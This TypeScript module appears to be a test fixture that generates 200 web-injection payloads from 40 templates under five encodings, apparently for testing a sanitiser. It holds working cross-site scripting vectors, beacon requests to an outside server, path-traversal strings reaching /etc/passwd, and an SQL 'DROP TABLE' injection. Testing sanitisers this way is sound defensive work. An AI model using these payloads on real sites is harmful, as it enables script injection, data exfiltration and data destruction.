/** Texts that would run a script, leave the page, or ask elsewhere, were they more than text. */

/** What each of them would do. */
const DOES = "globalThis.pwned=1";

const FRAMES: readonly ((script: string, beacon: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><img src=x onerror="${script}">`,
  (script) => `<svg onload="${script}">`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `javascript:${script}`,
  (script) => `</pre></code></div><body onload=${script}>`,
  (script) => `</title></style></textarea><img src onerror=${script}>`,
  (script) => `<math><mtext><table><mglyph><style><img src onerror=${script}>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<object data="data:text/html,<script>parent.${script}</script>"></object>`,
  (_, beacon) => `<img src="${beacon}/image">`,
  (_, beacon) => `<link rel=stylesheet href="${beacon}/style">`,
  (_, beacon) => `<style>@import '${beacon}/import';*{background:url(${beacon}/url)}</style>`,
  (_, beacon) => `<form action="${beacon}/form"><button autofocus>x</button></form>`,
  (_, beacon) => `<meta http-equiv=refresh content="0;url=${beacon}/refresh">`,
  (_, beacon) => `<base href="${beacon}/">`,
  (_, beacon) => `![x](${beacon}/markdown)`,
  (_, beacon) => `url("${beacon}/css")`,
  (script) => `\u202e<script>${script}</script>\u2066`,
  (script) => `\u0000\u0001\u001b[2J<script>${script}</script>`,
  (script) => `__proto__.x=${script}`,
  (script) => `#/run/../../x?q=<script>${script}</script>`,
  () => "../../../../etc/passwd",
  () => "..%2f..%2fetc%2fpasswd\\..\\..",
  () => "'; DROP TABLE episode; --",
  () => 'OR 1=1 NEAR("a" "b") *',
  () => `<!--${"-".repeat(3_000)}`,
  () => "a".repeat(4_000),
  () => "\u0300".repeat(600),
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `<template><script>${script}</script></template><slot onslotchange=${script}>`,
  (script) => `<marquee onstart=${script}>`,
  (script) => `<video><source onerror=${script}></video>`,
];

/** Ways to hide it from somebody who looks for it. */
const COATS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("GLOBALTHIS.PWNED", "globalThis.pwned"),
  (text) => JSON.stringify(text),
  (text) => text.replaceAll("<", "\n<\t"),
  (text) => `${text}${text}`,
];

/** 200 of them. @param beacon address of a server that nothing may ask */
export function payloads(beacon: string): readonly string[] {
  return COATS.flatMap((coat) => FRAMES.map((frame) => coat(frame(DOES, beacon))));
}
